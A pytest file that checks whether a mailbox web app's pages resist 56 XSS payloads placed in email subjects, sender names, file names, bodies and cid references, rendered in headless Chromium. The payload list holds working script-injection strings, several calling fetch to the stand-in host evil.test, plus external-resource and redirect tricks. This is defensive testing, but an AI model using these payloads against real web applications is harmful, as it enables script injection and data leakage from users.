"""Browser safety: 56 XSS payloads, each in the subject, sender name, file
name, text body, HTML body and a ``cid:`` reference of one message, rendered
by the web page (inbox list, HTML view, text view) in headless Chromium.
No script runs, no request leaves for another host, the top page never
navigates away."""
from __future__ import annotations

import base64
import threading
from email.message import EmailMessage
from email.policy import SMTP as SMTP_POLICY
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from werkzeug.serving import make_server

import mailhandler
from models import Domain, Mailbox, Message, db

from .helpers import record

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
B = "top.__xss=1;fetch('http://evil.test/ran')"  # what any payload tries to run
PAYLOADS = [
    f"<script>{B}</script>", f'<img src=x onerror="{B}">', f'<svg onload="{B}">',
    f"<svg><script>{B}</script></svg>", f'<iframe src="javascript:{B}"></iframe>',
    f'<a href="javascript:{B}">x</a>', f'<body onload="{B}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{B}">',
    f'<noscript><p title="</noscript><img src=x onerror={B}>">', f'"><script>{B}</script>',
    f"'><img src=x onerror={B}>", f'<details open ontoggle="{B}">', f'<video><source onerror="{B}">',
    f"<audio src=x onerror={B}>", f"<input autofocus onfocus={B}>", f"<marquee onstart={B}>",
    f'<object data="javascript:{B}">', f'<embed src="javascript:{B}">',
    '<form action="http://evil.test/f"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/meta">', '<base href="http://evil.test/">',
    '<link rel=stylesheet href="http://evil.test/s.css">', "<style>@import 'http://evil.test/i.css';</style>",
    '<div style="background:url(http://evil.test/bg)">bg</div>', '<img src="http://evil.test/pixel.gif">',
    '<img srcset="http://evil.test/a.png 1x">', '<picture><source srcset="http://evil.test/p.png"><img></picture>',
    '<table background="http://evil.test/t.png"><tr><td>t</td></tr></table>',
    '<svg><use href="http://evil.test/s.svg#x"/></svg>', f"<svg><animate onbegin={B} attributeName=x dur=1s>",
    f'<img src="cid:img1" onerror="{B}">', '<img src="cid:../../evil">', f'<img src="cid:&quot;onerror={B}">',
    f'<a href="cid:img1" onclick="{B}">cid</a>', f"{{{{7*7}}}}<script>{B}</script>",
    f"<scr<script>ipt>{B}</scr</script>ipt>", "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    f"<IMG SRC=JaVaScRiPt:{B}>", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    f'<iframe srcdoc="<script>{B}</script>"></iframe>', f'<xmp><p title="</xmp><img src=x onerror={B}>">',
    f"<template><script>{B}</script></template>", f"<img src=x onerror={B}//",
    f"<svg><foreignObject><iframe src=javascript:{B}></iframe></foreignObject></svg>",
    f'<a href="data:text/html,<script>{B}</script>">d</a>', '<style>*{background:url("http://evil.test/css")}</style>',
    '<img src="//evil.test/proto-relative">', f"javascript:{B}", f"</textarea><script>{B}</script>",
    f"</title><script>{B}</script>", f'<!--<img src="--><img src=x onerror={B}//">',
    f"<isindex type=image src=1 onerror={B}>", f"<keygen autofocus onfocus={B}>", f"${{{B}}} `{B}`",
    '<embed src="http://evil.test/e.swf">', f'<svg><a xlink:href="javascript:{B}"><text>t</text></a></svg>',
]


def hostile_message(n: int, payload: str, to: str) -> bytes:
    """One message carrying ``payload`` everywhere a sender controls."""
    msg = EmailMessage(policy=SMTP_POLICY)
    msg["To"] = to
    msg.set_content(f"text body: {payload}")
    msg.add_alternative(f"<html><head><title>{payload}</title></head><body><p>{payload}</p>"
                        f'<img src="cid:img1" alt="inline"><a href="cid:img1">{payload}</a></body></html>',
                        subtype="html")
    msg.add_attachment(b"GIF89a", maintype="image", subtype="gif", filename=f"{payload}.gif", cid="<img1>")
    msg.add_attachment(payload.encode(), maintype="text", subtype="html", filename=payload[:150])
    # Subject and sender name as RFC 2047 words: they decode to the payload
    # byte for byte, whatever quotes and brackets it holds.
    word = "=?utf-8?b?" + base64.b64encode(payload.encode()).decode() + "?="
    return f"From: {word} <x{n}@peer.test>\r\nSubject: {word}\r\n".encode() + msg.as_bytes()


class Watch:
    """Everything the pages do that they must not: dialogs, requests to other
    hosts, navigations of the top page, and the payloads' own beacon."""

    def __init__(self, page, base: str):
        self.page, self.base = page, base
        self.dialogs, self.remote, self.top_navigations = [], [], []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.context.route("**/*", self.route)
        page.on("framenavigated", self.navigated)

    def route(self, route):
        host = urlsplit(route.request.url).hostname
        if host != "127.0.0.1":
            self.remote.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    def navigated(self, frame):
        if frame == self.page.main_frame and not frame.url.startswith(self.base):
            self.top_navigations.append(frame.url)

    def beacon(self) -> bool:
        return any(frame.evaluate("() => !!window.__xss") for frame in self.page.frames
                   if not frame.is_detached())


def test_xss_corpus_in_chromium(app):
    sync_api = pytest.importorskip("playwright.sync_api")
    assert len(PAYLOADS) >= 50
    assert Path(CHROMIUM).exists(), "run make system-deps (Debian package chromium)"
    with app.app_context():
        box = Mailbox.create("xssbox", Domain.by_name("example.com"), 86400)
        ids = [mailhandler.deliver(hostile_message(n, p, box.address), [box.address])[0].id
               for n, p in enumerate(PAYLOADS)]
        token = box.email_token()
        # the payloads arrive intact: the corpus tests the page, not the parser
        stored = [db.session.get(Message, i) for i in ids]
        assert [m.subject for m in stored] == PAYLOADS and [m.from_name for m in stored] == PAYLOADS
        assert all(p in m.body_html and p in m.body_text for p, m in zip(PAYLOADS, stored))
    server = make_server("127.0.0.1", 0, app, threaded=True)
    base = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    pages = 0
    try:
        with sync_api.sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_context().new_page()
            page.set_default_timeout(15000)
            watch = Watch(page, base)
            fired = []
            for url in [f"{base}/m/{token}"] + [f"{base}/m/{token}/messages/{i}{view}"
                                                 for i in ids for view in ("", "?view=text")]:
                page.goto(url, wait_until="load")
                page.wait_for_timeout(30)
                pages += 1
                if watch.beacon():
                    fired.append(url)
                assert page.url.startswith(base)
            browser.close()
    finally:
        server.shutdown()
    record("browser safety", f"{len(PAYLOADS)} XSS payloads x (subject, sender name, 2 file names, text, "
           f"HTML, cid:) on {pages} page loads in Chromium: scripts ran {len(fired)}, dialogs "
           f"{len(watch.dialogs)}, requests to other hosts {len(watch.remote)}, top navigations "
           f"{len(watch.top_navigations)}")
    assert fired == [] and watch.dialogs == []
    assert watch.remote == [] and watch.top_navigations == []
